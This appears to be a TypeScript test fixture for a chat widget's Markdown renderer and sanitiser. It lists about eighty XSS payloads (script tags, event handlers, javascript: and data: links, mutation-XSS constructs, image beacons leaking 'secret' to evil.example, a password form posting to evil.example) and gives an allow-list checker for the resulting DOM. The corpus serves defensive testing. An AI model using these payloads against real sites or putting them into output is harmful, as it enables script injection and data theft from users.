/** One text that tries to become more than text. */
export interface XssPayload {
  readonly name: string;
  readonly text: string;
}

const TAB = '\t';
const LINE = '\n';
const NUL = '\u0000';
const ZERO_WIDTH = '\u200b';

/**
 * Texts that have broken chat widgets, Markdown renderers and sanitisers: HTML, event handlers, dangerous links, things
 * that load by themselves, half-closed constructs. Used as model output, FAQ content, visitor text and names (checklist
 * D19–D24). Every one must end as plain text or allow-listed elements, at every prefix.
 */
export const XSS_CORPUS: readonly XssPayload[] = [
  { name: 'script', text: '<script>alert(1)</script>' },
  { name: 'script with source', text: '<script src="https://evil.example/x.js"></script>' },
  { name: 'script, mixed case and a gap', text: '<ScRiPt >alert(1)</sCrIpT >' },
  { name: 'script, nested to survive one pass', text: '<scr<script>ipt>alert(1)</scr</script>ipt>' },
  { name: 'script after closing a tag', text: '"></p><script>alert(1)</script>' },
  { name: 'image with error handler', text: '<img src=x onerror=alert(1)>' },
  { name: 'image with slashes for spaces', text: '<img/src=x/onerror=alert(1)>' },
  { name: 'image without the end', text: '<img src=x onerror=alert(1) ' },
  { name: 'image, handler with entities', text: '<img src=x onerror="&#97;lert(1)">' },
  { name: 'svg onload', text: '<svg onload=alert(1)>' },
  { name: 'svg with script', text: '<svg><script>alert(1)</script></svg>' },
  { name: 'svg animate', text: '<svg><animate onbegin=alert(1) attributeName=x dur=1s>' },
  { name: 'svg foreign object', text: '<svg><foreignObject><body onload=alert(1)></foreignObject></svg>' },
  { name: 'math', text: '<math><mi xlink:href="javascript:alert(1)">x</mi></math>' },
  {
    name: 'math and style (mutation)',
    text: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  },
  { name: 'noscript (mutation)', text: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">' },
  { name: 'template', text: '<template><img src=x onerror=alert(1)></template>' },
  { name: 'iframe', text: '<iframe src="javascript:alert(1)"></iframe>' },
  { name: 'iframe srcdoc', text: '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>' },
  { name: 'object', text: '<object data="javascript:alert(1)"></object>' },
  { name: 'embed', text: '<embed src="data:text/html,<script>alert(1)</script>">' },
  { name: 'base', text: '<base href="https://evil.example/">' },
  { name: 'meta refresh', text: '<meta http-equiv="refresh" content="0;url=https://evil.example">' },
  { name: 'link stylesheet', text: '<link rel=stylesheet href="https://evil.example/x.css">' },
  { name: 'style import', text: '<style>@import "https://evil.example/x.css"</style>' },
  { name: 'style url', text: '<div style="background:url(https://evil.example/x.png)">x</div>' },
  { name: 'form', text: '<form action="https://evil.example"><input name=password><button>Go</button></form>' },
  { name: 'button formaction', text: '<button formaction="javascript:alert(1)">x</button>' },
  { name: 'input autofocus', text: '<input autofocus onfocus=alert(1)>' },
  { name: 'details toggle', text: '<details open ontoggle=alert(1)>' },
  { name: 'video source', text: '<video><source onerror=alert(1)></video>' },
  { name: 'audio', text: '<audio src="https://evil.example/x.mp3" autoplay></audio>' },
  { name: 'marquee', text: '<marquee onstart=alert(1)>x</marquee>' },
  { name: 'body onload', text: '<body onload=alert(1)>' },
  { name: 'html comment', text: '<!--<img src="--><img src=x onerror=alert(1)//">' },
  { name: 'cdata', text: '<![CDATA[<script>alert(1)</script>]]>' },
  { name: 'processing instruction', text: '<?xml version="1.0"?><script>alert(1)</script>' },
  { name: 'anchor with handler', text: '<a href="https://ok.example" onclick="alert(1)">x</a>' },
  { name: 'anchor javascript', text: '<a href="javascript:alert(1)">x</a>' },
  { name: 'link javascript', text: '[x](javascript:alert(1))' },
  { name: 'link javascript, mixed case', text: '[x](JaVaScRiPt:alert(1))' },
  { name: 'link javascript, line break inside', text: `[x](java${LINE}script:alert(1))` },
  { name: 'link javascript, tab inside', text: `[x](java${TAB}script:alert(1))` },
  { name: 'link javascript, leading control characters', text: `[x](\u0001\u001fjavascript:alert(1))` },
  { name: 'link javascript, leading space', text: '[x]( javascript:alert(1))' },
  { name: 'link javascript, zero-width inside', text: `[x](java${ZERO_WIDTH}script:alert(1))` },
  { name: 'link javascript, NUL inside', text: `[x](java${NUL}script:alert(1))` },
  { name: 'link javascript, entities', text: '[x](&#106;&#97;vascript:alert(1))' },
  { name: 'link javascript, hex entities', text: '[x](&#x6A;avascript&colon;alert(1))' },
  { name: 'link javascript, percent', text: '[x](javascript%3Aalert(1))' },
  { name: 'link javascript, in angle brackets', text: '[x](<javascript:alert(1)>)' },
  { name: 'link javascript, with title', text: '[x](javascript:alert(1) "title")' },
  { name: 'link data', text: '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)' },
  { name: 'link vbscript', text: '[x](vbscript:msgbox(1))' },
  { name: 'link file', text: '[x](file:///etc/passwd)' },
  { name: 'link blob', text: '[x](blob:https://evil.example/1)' },
  { name: 'link protocol-relative', text: '[x](//evil.example)' },
  { name: 'link with name before the host', text: '[x](https://bank.example@evil.example)' },
  { name: 'link that breaks out of the attribute', text: '[x](https://ok.example/"onmouseover="alert(1))' },
  { name: 'link with a handler in the label', text: '[<img src=x onerror=alert(1)>](https://ok.example)' },
  { name: 'link in a link', text: '[a [b](javascript:alert(1)) c](https://ok.example)' },
  { name: 'link mailto with body', text: '[x](mailto:a@b.example?subject=x&body=<script>alert(1)</script>)' },
  { name: 'bare javascript', text: 'javascript:alert(1)' },
  { name: 'bare link that breaks out', text: 'https://ok.example/"><img/src=x/onerror=alert(1)>' },
  { name: 'angle autolink javascript', text: '<javascript:alert(1)>' },
  { name: 'image', text: '![x](https://evil.example/leak.png?q=secret)' },
  { name: 'image javascript', text: '![x](javascript:alert(1))' },
  { name: 'image in a link', text: '[![x](https://evil.example/x.png)](https://ok.example)' },
  { name: 'image with handler in its description', text: '![" onerror="alert(1)](https://evil.example/x.png)' },
  { name: 'image by reference', text: '![x][leak]\n\n[leak]: https://evil.example/leak.png?q=secret' },
  { name: 'link by reference', text: '[x][go]\n\n[go]: javascript:alert(1)' },
  { name: 'html in bold', text: '**<img src=x onerror=alert(1)>**' },
  { name: 'html in code', text: '`<img src=x onerror=alert(1)>`' },
  { name: 'html in a code block', text: '```html\n<script>alert(1)</script>\n```' },
  { name: 'code block without the end', text: '```\n</code></pre><script>alert(1)</script>' },
  { name: 'html in a list', text: '- <svg onload=alert(1)>\n- ok' },
  { name: 'html in a heading', text: '# <img src=x onerror=alert(1)>' },
  { name: 'html in a quote', text: '> <img src=x onerror=alert(1)>' },
  { name: 'template expression', text: '{{constructor.constructor("alert(1)")()}} #{alert(1)}' },
  { name: 'prototype names', text: '[__proto__](https://ok.example) constructor toString' },
  { name: 'bidi override in a link', text: '[\u202egnp.exe\u202c](https://ok.example/\u202egnp.exe)' },
  { name: 'tag characters', text: 'hello\u{e0041}\u{e0042}\u{e007f}' },
];

/** Elements an answer may be made of, and what stands around them. */
export const ALLOWED_ELEMENTS: ReadonlySet<string> = new Set(['DIV', 'P', 'STRONG', 'EM', 'CODE', 'PRE', 'UL', 'OL', 'LI', 'A']);

/** What is wrong with the DOM below `root`: an element or attribute that text must never become. Empty when all is well. */
export function forbiddenNodes(root: Element): readonly string[] {
  return [...root.querySelectorAll('*')].flatMap((element) => {
    const tag = ALLOWED_ELEMENTS.has(element.tagName) ? [] : [`<${element.tagName.toLowerCase()}>`];
    return [
      ...tag,
      ...[...element.attributes].filter((attribute) => !isAllowed(element, attribute)).map((one) => `${one.name}="${one.value}"`),
    ];
  });
}

function isAllowed(element: Element, { name, value }: Attr): boolean {
  if (name === 'class') return true;
  if (name === 'start') return element.tagName === 'OL' && /^\d+$/.test(value);
  if (element.tagName !== 'A') return false;
  if (name === 'href') return /^(https:\/\/|mailto:)/.test(value);
  return (name === 'target' && value === '_blank') || (name === 'rel' && value === 'noopener noreferrer nofollow');
}
